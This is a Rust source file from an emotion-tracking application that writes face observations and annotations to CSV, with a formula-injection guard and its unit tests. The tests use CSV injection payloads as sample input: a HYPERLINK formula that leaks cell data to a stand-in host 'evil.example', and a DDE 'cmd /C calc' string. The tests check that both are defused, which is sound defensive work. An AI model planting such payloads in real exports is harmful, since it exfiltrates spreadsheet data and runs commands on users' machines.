//! CSV export: one row per observation, and the markers and notes as a second CSV.
//!
//! Observation columns ([`OBSERVATION_COLUMNS`]): `session_id`, `timestamp_ms` (ms since session start),
//! `frame_index`, `track_id`, `track_name` ("P07", or "Face {id}" when unnamed), `x`, `y`, `width`, `height` (face
//! box, whole pixels of the source frame), `score` (the detector's own score), `face_score` (the same as a 0-1
//! confidence, [`super::face_score`]), `raw_angry` .. `raw_neutral` (this frame's classifier probabilities),
//! `angry` .. `neutral` (per-track smoothed probabilities), `dominant_emotion` (argmax of the smoothed
//! probabilities, as the live screen and `analyze` show it), `frame_rate` (the source's nominal frame rate in
//! frames per second, the same on every row; empty when unknown: a CSV has no other place for it), `box_source` ("detected" in this frame, or
//! "predicted" by the tracker's motion model), `classified` (true when `raw_*` came from this frame's crop, false
//! when they repeat the face's latest classification), `valence` (FaceReader's valence of the smoothed
//! probabilities, `[-1, 1]`, see [`crate::classify::valence`]), and the five landmarks `right_eye_x`, `right_eye_y`,
//! `left_eye_x` .. `mouth_left_y` (pixels of the source frame; empty when the detector gives none, as SeetaFace).
//!
//! With `--include-empty-frames` a row is written for each processed frame in which no face was observed too
//! (`session_id`, `timestamp_ms`, `frame_index` and `frame_rate` filled, the rest empty), and a last column
//! `success` (OpenFace's) says which rows hold a face (1) and which do not (0).
//!
//! With `--bom` the file (and the annotations file beside it) starts with a UTF-8 byte-order mark (EF BB BF), so that spreadsheets that guess the
//! encoding (LibreOffice's and Excel's default CSV import) read names such as "Zoë" as UTF-8.
//!
//! Annotation columns ([`ANNOTATION_COLUMNS`]): `id`, `kind` (marker or note), `start_ms`, `end_ms` (empty for an
//! instant), `label`, `track_id` (empty when about no track). On stdout only the observations are written;
//! `emotrace export --format csv --out FILE.csv` writes the annotations to `FILE.annotations.csv` beside it.
//!
//! Text cells go through [`spreadsheet_safe`] (CSV/formula injection); numbers are written plainly, in Rust's
//! shortest round-trip decimal form.

use std::borrow::Cow;
use std::io::Write;

use super::{Result, SessionExport};
use crate::classify::Emotion;

/// Header of the observations CSV.
pub const OBSERVATION_COLUMNS: [&str; 40] = super::with_shared_columns(OBSERVATION_HEAD);

/// The column `--include-empty-frames` adds at the end (OpenFace's): 1 on a face's row, 0 on a frame without one.
pub const SUCCESS_COLUMN: &str = "success";

/// The CSV's own columns, before [`super::SHARED_COLUMNS`].
const OBSERVATION_HEAD: [&str; 27] = [
    "session_id",
    "timestamp_ms",
    "frame_index",
    "track_id",
    "track_name",
    "x",
    "y",
    "width",
    "height",
    "score",
    "face_score",
    "raw_angry",
    "raw_disgust",
    "raw_fear",
    "raw_happy",
    "raw_sad",
    "raw_surprise",
    "raw_neutral",
    "angry",
    "disgust",
    "fear",
    "happy",
    "sad",
    "surprise",
    "neutral",
    "dominant_emotion",
    "frame_rate",
];

/// Header of the annotations CSV.
pub const ANNOTATION_COLUMNS: [&str; 6] = ["id", "kind", "start_ms", "end_ms", "label", "track_id"];

/// A text cell made safe to open in a spreadsheet (OWASP "CSV Injection"): a value starting (after any spaces)
/// with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so that Excel, LibreOffice or Google
/// Sheets show it as text instead of evaluating it as a formula. Quoting of separators, quotes and newlines is left to the CSV writer.
/// Only for text: numbers (a negative box coordinate) are written as they are.
pub fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
    // Spreadsheets that trim spaces before parsing (LibreOffice's default) see " =1+1" as a formula too.
    match text.trim_start_matches(' ').chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// The UTF-8 byte-order mark that `--bom` writes first.
pub const UTF8_BOM: &[u8; 3] = b"\xEF\xBB\xBF";

/// A typed cell of the observations table: written as text in the CSV ([`Cell::text`]) and as a typed cell in
/// the spreadsheet export.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    /// A whole number (ids, ms, frame index, pixels).
    Int(i64),
    /// A 32-bit float (probabilities, scores, landmarks), written in Rust's shortest round-trip form.
    F32(f32),
    /// A 64-bit float (the frame rate).
    F64(f64),
    /// true or false.
    Bool(bool),
    /// Text, as stored (the CSV makes it [`spreadsheet_safe`]).
    Text(String),
    /// Nothing (no landmarks, an unknown frame rate, the face columns of a frame without a face).
    Empty,
}

impl Cell {
    /// The cell as CSV text: numbers in Rust's shortest round-trip form, `true`/`false`, text made
    /// [`spreadsheet_safe`], and an empty cell as nothing.
    pub fn text(&self) -> Cow<'_, str> {
        match self {
            Cell::Int(v) => Cow::Owned(v.to_string()),
            Cell::F32(v) => Cow::Owned(v.to_string()),
            Cell::F64(v) => Cow::Owned(v.to_string()),
            Cell::Bool(v) => Cow::Borrowed(if *v { "true" } else { "false" }),
            Cell::Text(t) => spreadsheet_safe(t),
            Cell::Empty => Cow::Borrowed(""),
        }
    }
}

/// The header of the observations table of `data`: [`OBSERVATION_COLUMNS`], and [`SUCCESS_COLUMN`] when its empty
/// frames are loaded.
pub fn observation_header(data: &SessionExport) -> Vec<&'static str> {
    let mut header = OBSERVATION_COLUMNS.to_vec();
    if data.has_empty_frames() {
        header.push(SUCCESS_COLUMN);
    }
    header
}

/// The cells of one row of the observations table (the order of [`observation_header`]) into `cells` (cleared
/// first); `labels` maps track ids to their labels ([`SessionExport::track_labels`]).
pub fn observation_cells(
    data: &SessionExport,
    labels: &std::collections::HashMap<u32, String>,
    row: &super::Row,
    cells: &mut Vec<Cell>,
) {
    cells.clear();
    let frame_rate = || data.session.frame_rate.map_or(Cell::Empty, Cell::F64);
    let o = match row {
        super::Row::Face(o) => o,
        super::Row::Empty(f) => {
            cells.extend([
                Cell::Text(data.session.id.clone()),
                Cell::Int(f.timestamp_ms as i64),
                Cell::Int(f.frame_index as i64),
            ]);
            cells.resize(OBSERVATION_HEAD.len() - 1, Cell::Empty);
            cells.push(frame_rate());
            cells.resize(OBSERVATION_COLUMNS.len(), Cell::Empty);
            cells.push(Cell::Int(0));
            return;
        }
    };
    cells.push(Cell::Text(data.session.id.clone()));
    cells.push(Cell::Int(o.timestamp_ms as i64));
    cells.push(Cell::Int(o.frame_index as i64));
    cells.push(Cell::Int(o.track_id as i64));
    cells.push(Cell::Text(labels.get(&o.track_id).cloned().unwrap_or_else(|| data.track_label(o.track_id))));
    cells.extend(super::pixel_box(&o.bbox).iter().map(|&v| Cell::Int(v as i64)));
    cells.push(Cell::F32(o.score));
    cells.push(Cell::F32(data.face_score(o)));
    cells.extend(o.raw.iter().map(|&p| Cell::F32(p)));
    cells.extend(o.smoothed.iter().map(|&p| Cell::F32(p)));
    cells.push(Cell::Text(Emotion::argmax(&o.smoothed).name().to_string()));
    cells.push(frame_rate());
    cells.push(Cell::Text(o.box_source().to_string()));
    cells.push(Cell::Bool(o.classified));
    cells.push(Cell::F32(crate::classify::valence::valence(&o.smoothed)));
    match &o.landmarks {
        Some(points) => cells.extend(points.iter().flatten().map(|&v| Cell::F32(v))),
        None => cells.resize(cells.len() + 2 * super::LANDMARK_NAMES.len(), Cell::Empty),
    }
    debug_assert_eq!(cells.len(), OBSERVATION_COLUMNS.len());
    if data.has_empty_frames() {
        cells.push(Cell::Int(1));
    }
}

/// Writes the observations CSV (with `bom`, a UTF-8 byte-order mark first; then the header, then one row per
/// observation in frame order, and per empty frame when they are included) to `out`, one row at a time; returns
/// the number of observations written.
///
/// Errors: `out` cannot be written ([`super::ExportError::Io`] or [`super::ExportError::Csv`]); the session cannot
/// be read ([`super::ExportError::Store`]).
pub fn write_observations(data: &SessionExport, bom: bool, out: &mut dyn Write) -> Result<u64> {
    if bom {
        out.write_all(UTF8_BOM)?;
    }
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(observation_header(data))?;
    let labels = data.track_labels();
    let mut cells = Vec::with_capacity(OBSERVATION_COLUMNS.len() + 1);
    let mut faces = 0;
    for row in data.rows()? {
        let row = row?;
        faces += matches!(row, super::Row::Face(_)) as u64;
        observation_cells(data, &labels, &row, &mut cells);
        w.write_record(cells.iter().map(|c| c.text().into_owned()))?;
    }
    w.flush()?;
    Ok(faces)
}

/// Writes the annotations CSV (with `bom`, a UTF-8 byte-order mark first; then the header, then one row per
/// marker or note in creation order) to `out`.
///
/// Errors: `out` cannot be written ([`super::ExportError::Io`] or [`super::ExportError::Csv`]).
pub fn write_annotations(data: &SessionExport, bom: bool, out: &mut dyn Write) -> Result<()> {
    if bom {
        out.write_all(UTF8_BOM)?;
    }
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(ANNOTATION_COLUMNS)?;
    for a in &data.annotations {
        let kind = serde_json::to_value(a.kind)?.as_str().unwrap_or_default().to_string();
        w.write_record([
            a.id.to_string(),
            kind,
            a.start_ms.to_string(),
            a.end_ms.map(|v| v.to_string()).unwrap_or_default(),
            spreadsheet_safe(&a.label).into_owned(),
            a.track_id.map(|v| v.to_string()).unwrap_or_default(),
        ])?;
    }
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::export::tests::sample_export;

    #[test]
    fn formulas_and_their_lookalikes_are_defused_and_plain_text_is_kept() {
        assert_eq!(
            spreadsheet_safe("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
        );
        for bad in ["+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"] {
            let safe = spreadsheet_safe(bad);
            assert!(safe.starts_with('\'') && safe[1..] == *bad, "{bad:?} -> {safe:?}");
        }
        for ok in ["P07", "Face 1", "", "a=b", "'quoted", "stimulus 3"] {
            assert!(matches!(spreadsheet_safe(ok), Cow::Borrowed(s) if s == ok), "{ok:?}");
        }
    }

    #[test]
    fn injected_names_and_labels_come_out_as_text_and_numbers_stay_numbers() {
        let evil = "=HYPERLINK(\"http://evil.example\",\"x\")";
        let data = sample_export(evil, "@cmd|' /C calc'!A0");

        let mut buf = Vec::new();
        write_observations(&data, false, &mut buf).unwrap();
        let mut r = ::csv::Reader::from_reader(buf.as_slice());
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), OBSERVATION_COLUMNS);
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), crate::store::export::tests::faces(&data).len());
        let named: Vec<_> = rows.iter().filter(|r| &r[3] == "2").collect();
        assert_eq!(named.len(), 3);
        for row in &named {
            assert_eq!(&row[4], format!("'{evil}"));
            // A negative coordinate is a number, not a formula; boxes are whole pixels.
            assert_eq!(&row[5], "-2");
            assert_eq!((&row[6], &row[7], &row[8]), ("20", "100", "110"));
            assert_eq!(&row[25], "neutral");
            assert_eq!(
                row.iter().skip(30).collect::<Vec<_>>(),
                ["30", "50.5", "70", "50", "50", "70", "35", "90", "65", "90.25"]
            );
        }
        assert_eq!((&rows[0][26], &rows[0][27], &rows[0][28], &rows[0][30]), ("25", "detected", "true", ""));
        let predicted: Vec<_> = rows.iter().filter(|r| &r[27] == "predicted").collect();
        assert_eq!(predicted.len(), 1);
        assert_eq!((&predicted[0][2], &predicted[0][3], &predicted[0][28]), ("3", "1", "false"));
        assert_eq!(&rows[0][4], "Face 1");
        assert_eq!(
            rows[0].iter().skip(11).take(7).collect::<Vec<_>>(),
            ["0.05", "0.05", "0.1", "0.5", "0.1", "0.1", "0.1"]
        );

        let mut buf = Vec::new();
        write_annotations(&data, false, &mut buf).unwrap();
        let text = String::from_utf8(buf).unwrap();
        let mut r = ::csv::Reader::from_reader(text.as_bytes());
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), ANNOTATION_COLUMNS);
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].iter().skip(1).collect::<Vec<_>>(), ["marker", "80", "", "'@cmd|' /C calc'!A0", "2"]);
        assert_eq!(rows[1].iter().skip(1).collect::<Vec<_>>(), ["note", "40", "120", "calm", ""]);
    }

    #[test]
    fn empty_frames_get_rows_with_success_0_between_the_faces_rows() {
        let mut data = sample_export("P07", "stimulus");
        let frame = |i: u64| crate::store::FrameRecord {
            frame_index: i,
            timestamp_ms: i * 40,
            detections: 0,
            faces: 0,
            latency_ms: 1.0,
        };
        // Frames 5 and 6 come after the sample's faces; one before them is made by moving the faces on.
        let super::super::Observations::Memory { observations, frames } = &mut data.observations else {
            panic!("sample_export is in memory")
        };
        for o in observations {
            o.frame_index += 1;
        }
        frames.iter_mut().for_each(|f| f.frame_index += 1);
        frames.insert(0, frame(0));
        frames.push(frame(6));
        data.include_empty_frames();
        let mut buf = Vec::new();
        write_observations(&data, false, &mut buf).unwrap();
        let mut r = ::csv::Reader::from_reader(buf.as_slice());
        assert_eq!(r.headers().unwrap().iter().next_back(), Some(SUCCESS_COLUMN));
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), crate::store::export::tests::faces(&data).len() + 2);
        let frames: Vec<&str> = rows.iter().map(|r| &r[2]).collect();
        assert_eq!(frames, ["0", "1", "2", "3", "3", "4", "4", "5", "5", "6"]);
        let success: Vec<&str> = rows.iter().map(|r| &r[OBSERVATION_COLUMNS.len()]).collect();
        assert_eq!(success, ["0", "1", "1", "1", "1", "1", "1", "1", "1", "0"]);
        let empty = &rows[9];
        assert_eq!((&empty[0], &empty[1], &empty[26]), (data.session.id.as_str(), "240", "25"));
        assert!(empty.iter().enumerate().all(|(i, c)| [0, 1, 2, 26, 40].contains(&i) || c.is_empty()), "{empty:?}");
    }

    #[test]
    fn probability_columns_follow_the_class_names() {
        let raw: Vec<String> = Emotion::NAMES.iter().map(|n| format!("raw_{n}")).collect();
        assert_eq!(OBSERVATION_COLUMNS[11..18], raw);
        assert_eq!(OBSERVATION_COLUMNS[18..25], Emotion::NAMES);
    }

    #[test]
    fn landmark_columns_follow_the_landmark_names() {
        let names: Vec<String> =
            crate::store::export::LANDMARK_NAMES.iter().flat_map(|n| [format!("{n}_x"), format!("{n}_y")]).collect();
        assert_eq!(OBSERVATION_COLUMNS[OBSERVATION_COLUMNS.len() - 10..], names);
        assert_eq!(super::super::SHARED_COLUMNS[3..], names);
        assert_eq!(
            super::super::fex::FEX_COLUMNS[super::super::fex::FEX_COLUMNS.len() - 13..],
            super::super::SHARED_COLUMNS
        );
    }

    #[test]
    fn a_bom_comes_first_only_when_asked_and_names_stay_utf8() {
        let data = sample_export("Zoë", "stimulus");
        let mut plain = Vec::new();
        write_observations(&data, false, &mut plain).unwrap();
        let mut bom = Vec::new();
        write_observations(&data, true, &mut bom).unwrap();
        assert!(plain.starts_with(b"session_id,"));
        assert_eq!(&bom[..3], UTF8_BOM);
        assert_eq!(&bom[3..], plain.as_slice());
        assert!(String::from_utf8(plain).unwrap().contains(",Zo\u{eb},"));
        let (mut plain, mut bom) = (Vec::new(), Vec::new());
        write_annotations(&data, false, &mut plain).unwrap();
        write_annotations(&data, true, &mut bom).unwrap();
        assert!(plain.starts_with(b"id,kind,"));
        assert_eq!((&bom[..3], &bom[3..]), (&UTF8_BOM[..], plain.as_slice()));
    }
}
